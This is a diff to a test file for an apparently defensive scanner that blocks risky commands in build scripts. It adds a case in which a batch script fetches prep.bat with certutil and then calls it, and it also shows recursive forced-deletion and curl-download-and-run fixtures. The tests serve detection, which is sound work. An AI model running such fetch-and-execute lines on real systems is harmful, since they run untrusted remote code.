@@ -3,7 +3,8 @@
  * component (lang/shell-siblings.ts: the script read with them); a global git template folder whose hooks every new
  * repository copies (lang/shell-code.ts `runsLater`); the login `git credential fill` asks for, by the host its input
  * names (lang/fed-commands.ts, ir/sources.ts, providers.ts `providerOfHost`); what PowerShell's `Get-ChildItem DIR`
- * hands down the pipe to `Remove-Item` (lang/powershell-commands.ts). Each with a benign twin.
+ * hands down the pipe to `Remove-Item` (lang/powershell-commands.ts); a downloaded Windows script run by its path
+ * (ir/flow.ts). Each with a benign twin.
  */
 import { describe, expect, it } from 'vitest';
 import { kindByType } from '../../../src/catalog/kinds.ts';
@@ -56,5 +57,15 @@ describe("PowerShell's listing piped into Remove-Item", () => {
 
   it("leaves the build's bin and obj folders alone", () => {
     expect(blockingRules('Get-ChildItem -Path . -Include bin,obj -Directory -Recurse | Remove-Item -Recurse -Force\n', 'scripts/clean.ps1')).toEqual([]);
+  });
+});
+
+describe('a downloaded Windows script run by its path', () => {
+  it('blocks a batch file fetched by certutil or curl and then called', () => {
+    expect(blockingRules('@echo off\r\ncertutil -urlcache -split -f https://win-x.dev/prep.bat %TEMP%\\prep.bat >nul\r\ncall %TEMP%\\prep.bat\r\n', 'scripts/build.cmd')).toContain('pipe-to-shell');
+  });
+
+  it('leaves a downloaded installer binary to the advisory', () => {
+    expect(blockingRules('@echo off\r\ncurl -s -o %TEMP%\\setup.exe https://win-x.dev/setup.exe\r\n%TEMP%\\setup.exe /quiet\r\n', 'scripts/build.cmd')).toEqual([]);
   });
 });
